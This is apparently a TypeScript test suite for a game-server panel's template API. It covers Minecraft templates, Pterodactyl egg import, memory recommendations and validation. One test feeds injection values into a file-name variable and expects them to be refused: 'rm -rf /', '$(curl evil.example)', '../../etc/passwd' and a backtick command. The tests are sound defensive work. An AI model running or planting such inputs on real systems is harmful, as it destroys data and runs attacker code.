import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import { DATABASES, startPanel, type TestPanel } from '@conductor/test';

const egg = (name: string): Record<string, unknown> =>
  JSON.parse(readFileSync(new URL(`./eggs/${name}`, import.meta.url), 'utf8')) as Record<string, unknown>;

for (const database of DATABASES) {
  describe(`templates (${database})`, () => {
    let panel: TestPanel;
    before(async () => {
      panel = await startPanel({ database });
    });
    after(() => panel.close());

    it('ships Paper, Purpur, Vanilla, Fabric, Forge, Velocity and the test image, validated, most popular first', async () => {
      const res = await panel.request('GET', '/api/templates');
      expect(res.status).to.equal(200);
      const ids = res.body.templates.map((t: { template: { id: string } }) => t.template.id);
      expect(ids.slice(0, 3)).to.deep.equal(['paper', 'vanilla', 'purpur']);
      expect(ids).to.include.members(['paper', 'purpur', 'vanilla', 'fabric', 'forge', 'velocity', 'conductor-test']);
      for (const t of res.body.templates) expect(t.source).to.equal('builtin');
      const forge = res.body.templates.find((t: { template: { id: string } }) => t.template.id === 'forge').template;
      expect(forge.shell).to.equal(true);
      expect(forge.install.entrypoint).to.deep.equal(['bash']);
    });

    it('filters by category and search words, and counts categories', async () => {
      const modded = (await panel.request('GET', '/api/templates?category=modded&sort=name')).body.templates.map(
        (t: { template: { id: string } }) => t.template.id,
      );
      expect(modded).to.deep.equal(['fabric', 'forge']);
      const proxy = (await panel.request('GET', '/api/templates?q=PROXY')).body.templates.map(
        (t: { template: { id: string } }) => t.template.id,
      );
      expect(proxy).to.deep.equal(['velocity']);
      const words = (await panel.request('GET', '/api/templates?q=plugins%20fork')).body.templates.map(
        (t: { template: { id: string } }) => t.template.id,
      );
      expect(words).to.deep.equal(['purpur']);
      expect((await panel.request('GET', '/api/templates?q=%25')).body.templates).to.have.length.greaterThan(0);
      const categories = (await panel.request('GET', '/api/templates/categories')).body.categories;
      expect(categories).to.deep.include({ category: 'modded', count: 2 });
      expect((await panel.request('GET', '/api/templates?category=nope')).status).to.equal(400);
    });

    it('recommends memory by expected players', async () => {
      const rec = async (id: string, players: number) =>
        (await panel.request('GET', `/api/templates/${id}/recommendation?players=${players}`)).body.memoryMb;
      expect(await rec('paper', 3)).to.equal(2048);
      expect(await rec('paper', 20)).to.equal(4096);
      expect(await rec('paper', 21)).to.equal(6144);
      expect(await rec('paper', 5000)).to.equal(10240);
      expect(await rec('velocity', 300)).to.equal(2048);
      expect((await panel.request('GET', '/api/templates/paper/recommendation?players=0')).status).to.equal(400);
      expect((await panel.request('GET', '/api/templates/nothing/recommendation?players=5')).body.error.code).to.equal(
        'template_not_found',
      );
    });

    it('imports a PTDL_v2 Paper egg: images, placeholders, done text, config files, install script, rules', async () => {
      const res = await panel.request('POST', '/api/templates/import', { body: { egg: egg('egg-paper.json'), id: 'paper-egg' } });
      expect(res.status, JSON.stringify(res.body)).to.equal(201);
      const t = res.body.template;
      expect(t).to.deep.include({
        id: 'paper-egg',
        name: 'Paper',
        category: 'plugins',
        shell: false,
        stopCommand: 'stop',
        donePattern: '\\)! For help, type ',
      });
      expect(t.images).to.deep.equal([
        { name: 'Java 17', image: 'ghcr.io/pterodactyl/yolks:java_17' },
        { name: 'Java 21', image: 'ghcr.io/pterodactyl/yolks:java_21' },
      ]);
      expect(t.startup).to.equal(
        'java -Xms128M -Xmx{{SERVER_MEMORY}}M -Dterminal.jline=false -Dterminal.ansi=true -jar {{SERVER_JARFILE}}',
      );
      expect(t.configFiles).to.deep.equal([
        {
          file: 'server.properties',
          parser: 'properties',
          set: { 'server-ip': '0.0.0.0', 'server-port': '{{SERVER_PORT}}', 'query.port': '{{SERVER_PORT}}' },
        },
      ]);
      expect(t.install).to.deep.equal({
        image: 'ghcr.io/pterodactyl/installers:alpine',
        entrypoint: ['ash'],
        script:
          '#!/bin/ash\ncd /mnt/server\necho "installing ${MINECRAFT_VERSION}"\ncurl -o ${SERVER_JARFILE} https://example.invalid/paper.jar',
      });
      expect(t.denyFiles).to.deep.equal(['paper.yml.bak']);
      const jar = t.variables.find((v: { env: string }) => v.env === 'SERVER_JARFILE');
      expect(jar.rules).to.deep.include({ required: true, pattern: '^([\\w\\d._-]+)(\\.jar)$' });
      const dl = t.variables.find((v: { env: string }) => v.env === 'DL_PATH');
      expect(dl).to.deep.include({ userViewable: false, userEditable: false });
      expect(res.body.warnings).to.deep.equal([]);
      const stored = await panel.request('GET', '/api/templates/paper-egg');
      expect(stored.body.source).to.equal('imported');
      const events = (await panel.request('GET', '/api/events?type=template.*')).body.events;
      expect(events.map((e: { type: string; data: { templateId: string } }) => `${e.type}:${e.data.templateId}`)).to.include(
        'template.created:paper-egg',
      );
    });

    it('imports a PTDL_v1 Vanilla egg with several done texts and numeric flags', async () => {
      const res = await panel.request('POST', '/api/templates/import', { body: { egg: egg('egg-vanilla-minecraft.json') } });
      expect(res.status, JSON.stringify(res.body)).to.equal(201);
      const t = res.body.template;
      expect(t.id).to.equal('vanilla-minecraft');
      expect(t.category).to.equal('vanilla');
      expect(t.images.map((i: { image: string }) => i.image)).to.deep.equal([
        'ghcr.io/pterodactyl/yolks:java_21',
        'ghcr.io/pterodactyl/yolks:java_17',
      ]);
      expect(new RegExp(t.donePattern).test('[12:00:00 INFO]: Done (3.2s)! For help, type "help"')).to.equal(true);
      expect(t.donePattern).to.equal('\\)! For help, type |Done \\(');
      const version = t.variables.find((v: { env: string }) => v.env === 'VANILLA_VERSION');
      expect(version.rules).to.deep.include({ required: true, min: 3, max: 15 });
      expect(version.userEditable).to.equal(true);
    });

    it('imports a Forge egg whose startup needs a shell, reporting what did not carry over', async () => {
      const res = await panel.request('POST', '/api/templates/import', { body: { egg: egg('egg-forge-enhanced.json') } });
      expect(res.status, JSON.stringify(res.body)).to.equal(201);
      const t = res.body.template;
      expect(t).to.deep.include({ id: 'forge-enhanced', category: 'modded', shell: true, stopCommand: '^C' });
      expect(t.configFiles.map((f: { file: string }) => f.file)).to.deep.equal(['server.properties']);
      expect(res.body.warnings.join('\n')).to.contain('shell syntax');
      expect(res.body.warnings.join('\n')).to.contain('config/settings.xml uses the "xml" parser');
      expect(res.body.warnings.join('\n')).to.contain('FORGE_VERSION: rules not carried over: not_regex');
      expect(t.variables.find((v: { env: string }) => v.env === 'BUILD_TYPE').rules.oneOf).to.deep.equal(['recommended', 'latest']);
    });

    it('refuses what is not an egg, a duplicate id, and changes to built-in templates, leaving nothing behind', async () => {
      const before = (await panel.request('GET', '/api/templates?limit=500')).body.templates.length;
      const notEgg = await panel.request('POST', '/api/templates/import', { body: { egg: { name: 'x', meta: { version: 'PTDL_v9' } } } });
      expect(notEgg.status).to.equal(400);
      expect(notEgg.body.error.code).to.equal('invalid_egg');
      const broken = egg('egg-paper.json');
      (broken.config as Record<string, unknown>).files = '{ not json';
      const badJson = await panel.request('POST', '/api/templates/import', { body: { egg: broken, id: 'broken-paper' } });
      expect(badJson.status).to.equal(400);
      expect(badJson.body.error.message).to.contain('config.files is not valid JSON');
      const lowercase = egg('egg-paper.json');
      (lowercase.variables as Array<Record<string, unknown>>)[0]!.env_variable = 'minecraft_version';
      expect((await panel.request('POST', '/api/templates/import', { body: { egg: lowercase, id: 'lower' } })).body.error.code).to.equal(
        'invalid_egg',
      );
      const dup = await panel.request('POST', '/api/templates/import', { body: { egg: egg('egg-paper.json'), id: 'paper' } });
      expect(dup.status).to.equal(409);
      expect(dup.body.error.code).to.equal('template_exists');
      const paper = (await panel.request('GET', '/api/templates/paper')).body.template;
      expect((await panel.request('PUT', '/api/templates/paper', { body: { ...paper, name: 'Mine' } })).body.error.code).to.equal(
        'builtin_template',
      );
      expect((await panel.request('DELETE', '/api/templates/paper')).body.error.code).to.equal('builtin_template');
      expect((await panel.request('GET', '/api/templates?limit=500')).body.templates.length).to.equal(before);
    });

    it('checks variable values: defaults filled in, rules enforced, injection refused', async () => {
      const check = (id: string, variables: Record<string, string>) =>
        panel.request('POST', `/api/templates/${id}/variables/check`, { body: { variables } });
      const ok = await check('paper', { MINECRAFT_VERSION: '1.21.4' });
      expect(ok.status).to.equal(200);
      expect(ok.body.variables).to.deep.equal({ MINECRAFT_VERSION: '1.21.4', BUILD_NUMBER: 'latest', SERVER_JARFILE: 'server.jar' });
      for (const [value, message] of [
        ['server.jar; rm -rf /', 'SERVER_JARFILE'],
        ['$(curl evil.example)', 'SERVER_JARFILE'],
        ['../../etc/passwd.jar', 'SERVER_JARFILE'],
        ['`id`.jar', 'SERVER_JARFILE'],
      ] as const) {
        const res = await check('paper', { SERVER_JARFILE: value });
        expect(res.status, value).to.equal(400);
        expect(res.body.error.code).to.equal('invalid_variables');
        expect(res.body.error.details[0].path).to.equal(`variables.${message}`);
      }
      const number = await check('conductor-test', { MAX_PLAYERS: 'many' });
      expect(number.body.error.details[0]).to.deep.equal({ path: 'variables.MAX_PLAYERS', message: 'must be a whole number' });
      const tooMany = await check('conductor-test', { MAX_PLAYERS: '5000' });
      expect(tooMany.body.error.details[0].message).to.equal('must be at most 1000');
      const unknown = await check('paper', { NOT_A_VARIABLE: 'x' });
      expect(unknown.body.error.details[0]).to.deep.equal({
        path: 'variables.NOT_A_VARIABLE',
        message: 'is not a variable of this template',
      });
    });

    it('lets an admin add, change and delete a custom template; others may not', async () => {
      const paper = (await panel.request('GET', '/api/templates/paper')).body.template;
      const custom = { ...paper, id: 'paper-lowmem', name: 'Paper (low memory)', popularity: 5 };
      expect((await panel.request('POST', '/api/templates', { body: custom, auth: false })).status).to.equal(401);
      expect((await panel.request('POST', '/api/templates', { body: custom })).status).to.equal(201);
      const changed = await panel.request('PUT', '/api/templates/paper-lowmem', {
        body: { ...custom, recommendedMemory: [{ players: 10, memoryMb: 1024 }] },
      });
      expect(changed.status).to.equal(200);
      expect((await panel.request('GET', '/api/templates/paper-lowmem/recommendation?players=4')).body.memoryMb).to.equal(1024);
      expect((await panel.request('DELETE', '/api/templates/paper-lowmem')).status).to.equal(204);
      expect((await panel.request('GET', '/api/templates/paper-lowmem')).status).to.equal(404);
      const invalid = await panel.request('POST', '/api/templates', { body: { ...custom, id: 'Bad Id' } });
      expect(invalid.status).to.equal(400);
      expect(invalid.body.error.details[0].path).to.equal('id');
    });

    it('refuses unknown fields anywhere in a template (400 validation_failed naming the field) and stores nothing', async () => {
      const paper = (await panel.request('GET', '/api/templates/paper')).body.template;
      const base = { ...paper, id: 'paper-strict' };
      // The issue sits on the object that has the stray key, and its message names the key.
      const cases: Array<[Record<string, unknown>, string, string]> = [
        [{ ...base, memory: 2048 }, '', 'memory'],
        [{ ...base, images: [{ ...paper.images[0], tag: 'latest' }] }, 'images.0', 'tag'],
        [{ ...base, variables: [{ ...paper.variables[0], editable: true }] }, 'variables.0', 'editable'],
        [
          { ...base, variables: [{ ...paper.variables[0], rules: { ...paper.variables[0].rules, regex: '.*' } }] },
          'variables.0.rules',
          'regex',
        ],
        [{ ...base, install: { image: 'x', entrypoint: ['sh'], script: '', user: 'root' } }, 'install', 'user'],
      ];
      for (const [body, path, key] of cases) {
        const refused = await panel.request('POST', '/api/templates', { body });
        expect([refused.status, refused.body.error?.code], key).to.deep.equal([400, 'validation_failed']);
        expect(refused.body.error.details, key).to.deep.include({ in: 'body', path, message: `Unrecognized key: "${key}"` });
      }
      expect((await panel.request('GET', '/api/templates/paper-strict')).status, 'nothing stored').to.equal(404);
      const put = await panel.request('POST', '/api/templates', { body: base });
      expect(put.status).to.equal(201);
      const changed = await panel.request('PUT', '/api/templates/paper-strict', { body: { ...base, startupCommand: 'java' } });
      expect([changed.status, changed.body.error.code]).to.deep.equal([400, 'validation_failed']);
      expect(JSON.stringify(changed.body.error)).to.contain('startupCommand');
      const check = await panel.request('POST', '/api/templates/paper/variables/check', { body: { variables: {}, strict: true } });
      expect([check.status, check.body.error.code]).to.deep.equal([400, 'validation_failed']);
      await panel.request('DELETE', '/api/templates/paper-strict');
    });
  });
}
